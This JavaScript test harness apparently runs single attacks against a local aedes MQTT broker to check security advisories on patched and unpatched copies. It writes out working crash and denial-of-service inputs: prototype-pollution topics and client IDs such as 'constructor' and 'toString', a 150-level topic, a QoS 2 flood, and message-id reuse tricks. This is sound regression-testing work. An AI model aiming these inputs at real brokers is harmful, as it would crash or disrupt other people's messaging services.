// One attack on a bare aedes broker, in a process of its own (a successful attack
// crashes it): `node attack.mjs <aedes directory> <attack>`. Prints one JSON line:
// what the attacker and a second client saw, and whether the process survived.
// Used by advisories.test.ts against the patched aedes and an unpatched copy.
import { connect as tcpConnect, createServer } from 'node:net';
import { pathToFileURL } from 'node:url';
import mqttPacket from 'mqtt-packet';

const [aedesDir, attack] = process.argv.slice(2);
const { Aedes } = await import(pathToFileURL(`${aedesDir}/aedes.js`).href);
const broker = await Aedes.createBroker({ maxInflightInbound: 100 });
const server = createServer(broker.handle);
await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
const port = server.address().port;
process.on('uncaughtException', (err) => {
  process.stdout.write(`${JSON.stringify({ crashed: true, error: String(err.message).slice(0, 200) })}\n`);
  process.exit(0);
});

/** A connection that sends `packets` (then `later` once `when(seen)` holds) and records every packet the broker sends. */
function session(version, packets, { settleMs = 400, later = [], when = () => false } = {}) {
  return new Promise((resolve) => {
    const socket = tcpConnect({ port, host: '127.0.0.1' });
    const parser = mqttPacket.parser({ protocolVersion: version });
    const seen = [];
    let sentLater = false;
    parser.on('packet', (p) => {
      seen.push({ cmd: p.cmd, qos: p.qos, reasonCode: p.reasonCode, returnCode: p.returnCode, granted: p.granted, payload: p.payload?.toString() });
      if (!sentLater && when(seen)) {
        sentLater = true;
        for (const q of later) socket.write(mqttPacket.generate(q, { protocolVersion: version }));
      }
    });
    socket.on('data', (d) => parser.parse(d));
    socket.on('error', () => undefined);
    let closed = false;
    socket.on('close', () => (closed = true));
    socket.on('connect', () => {
      for (const p of packets) socket.write(mqttPacket.generate(p, { protocolVersion: version }));
    });
    setTimeout(() => {
      socket.destroy();
      resolve({ seen, closedByBroker: closed });
    }, settleMs);
  });
}

const connect = (clientId, extra = {}, version = 4) => ({ cmd: 'connect', protocolId: 'MQTT', protocolVersion: version, clientId, clean: true, keepalive: 60, ...extra });
const out = {};
switch (attack) {
  case 'prototype-subscribe':
    out.attacker = await session(4, [connect('x'), { cmd: 'subscribe', messageId: 1, subscriptions: [{ topic: 'constructor', qos: 0 }] }]);
    break;
  case 'prototype-unsubscribe':
    out.attacker = await session(4, [connect('x'), { cmd: 'unsubscribe', messageId: 1, unsubscriptions: ['toString'] }]);
    break;
  case 'prototype-client-id':
    out.attacker = await session(4, [connect('constructor')]);
    break;
  case 'deep-topic': {
    const deep = Array.from({ length: 150 }, () => 'a').join('/');
    out.attacker = await session(4, [
      connect('x', { will: { topic: deep, payload: Buffer.from('w'), qos: 0, retain: false } }),
      { cmd: 'subscribe', messageId: 1, subscriptions: [{ topic: deep, qos: 0 }] },
      { cmd: 'unsubscribe', messageId: 2, unsubscriptions: [deep] },
      { cmd: 'publish', topic: deep, payload: Buffer.from('x'), qos: 1, messageId: 3 },
    ]);
    break;
  }
  case 'qos2-flood': {
    const flood = Array.from({ length: 300 }, (_, i) => ({ cmd: 'publish', topic: 't', payload: Buffer.from('x'), qos: 2, messageId: i + 1 }));
    out.attacker = await session(4, [connect('flooder'), ...flood], { settleMs: 1500 });
    break;
  }
  case 'clean-session-qos2-residue': {
    // A clean session leaves a QoS 2 message without PUBREL; the next clean session reuses the id.
    await session(4, [connect('dup'), { cmd: 'publish', topic: 'residue', payload: Buffer.from('old'), qos: 2, messageId: 42 }]);
    const subscriber = session(4, [connect('watcher'), { cmd: 'subscribe', messageId: 1, subscriptions: [{ topic: 'residue', qos: 2 }] }], { settleMs: 1200 });
    await new Promise((r) => setTimeout(r, 200));
    out.attacker = await session(4, [connect('dup'), { cmd: 'publish', topic: 'residue', payload: Buffer.from('new'), qos: 2, messageId: 42 }], {
      when: (seen) => seen.some((p) => p.cmd === 'pubrec'),
      later: [{ cmd: 'pubrel', messageId: 42 }],
    });
    out.subscriber = await subscriber;
    break;
  }
  case 'qos-downgrade': {
    const subscriber = session(4, [connect('sub1'), { cmd: 'subscribe', messageId: 1, subscriptions: [{ topic: 'plant/#', qos: 1 }] }], { settleMs: 900 });
    await new Promise((r) => setTimeout(r, 200));
    out.attacker = await session(4, [connect('pub2'), { cmd: 'publish', topic: 'plant/line-1', payload: Buffer.from('x'), qos: 2, messageId: 7 }], {
      when: (seen) => seen.some((p) => p.cmd === 'pubrec'),
      later: [{ cmd: 'pubrel', messageId: 7 }],
    });
    out.subscriber = await subscriber;
    break;
  }
  case 'dedupe-reorder': {
    // Retained and QoS 1 messages interleaved: numbered in one order, emitted in another.
    const subscriber = session(4, [connect('sub-all'), { cmd: 'subscribe', messageId: 1, subscriptions: [{ topic: 'mix/#', qos: 1 }] }], { settleMs: 1500 });
    await new Promise((r) => setTimeout(r, 200));
    const packets = [connect('pub-mix')];
    for (let i = 0; i < 100; i++) {
      packets.push({ cmd: 'publish', topic: 'mix/retained', payload: Buffer.from(`r${i}`), qos: 0, retain: true });
      packets.push({ cmd: 'publish', topic: 'mix/plain', payload: Buffer.from(`p${i}`), qos: 0, retain: false });
      packets.push({ cmd: 'publish', topic: 'mix/qos1', payload: Buffer.from(`q${i}`), qos: 1, messageId: i + 1 });
    }
    out.attacker = await session(4, packets, { settleMs: 800 });
    out.subscriber = await subscriber;
    break;
  }
  default:
    throw new Error(`unknown attack ${attack}`);
}
out.probe = await session(4, [connect('probe'), { cmd: 'pingreq' }], { settleMs: 200 });
out.crashed = false;
process.stdout.write(`${JSON.stringify(out)}\n`);
process.exit(0);
